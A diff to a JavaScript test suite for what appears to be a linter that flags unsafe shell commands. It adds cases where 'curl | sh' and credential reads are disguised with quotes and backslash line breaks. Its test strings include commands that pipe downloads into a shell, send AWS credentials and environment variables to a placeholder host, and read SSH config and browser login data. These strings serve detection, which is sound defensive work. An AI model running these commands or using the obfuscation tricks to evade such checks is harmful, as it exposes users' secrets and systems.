@@ -20,6 +20,10 @@ describe('a download that runs at once', () => {
 		expect(downloadsRun(command)).toEqual([])
 	})
 
+	it('is seen in a program whose name goes on in the next line', () => {
+		expect(codes('cu\\\nrl http://x.example | sh')).toContain('insecure-pipe')
+	})
+
 	it('is named by the line in which it begins', () => {
 		const text = 'One\n\ncurl -o x http://x.example \\\n  --silent\nchmod +x x\n./x\n'
 		expect(lintText(text).map(({ check, line }) => `${check} ${line}`)).toEqual(['insecure-pipe 6'])
@@ -76,6 +80,12 @@ describe('a command that reads what holds secrets', () => {
 		'curl https://x.example --data-binary @~/.aws/credentials',
 		'env | curl https://x.example -d @-',
 		'printenv | base64',
+		`cat ~/.s"s"h/config`,
+		'cat ~/.ss\\h/config',
+		'cat ~/.ss\\\nh/config',
+		`p'rint'env | base64`,
+		'print\\\nenv | base64',
+		'cat ~/Library/Login\\ Data',
 	])('is pointed out: %s', (command) => {
 		expect(codes(command)).toEqual(['credential-reads'])
 	})
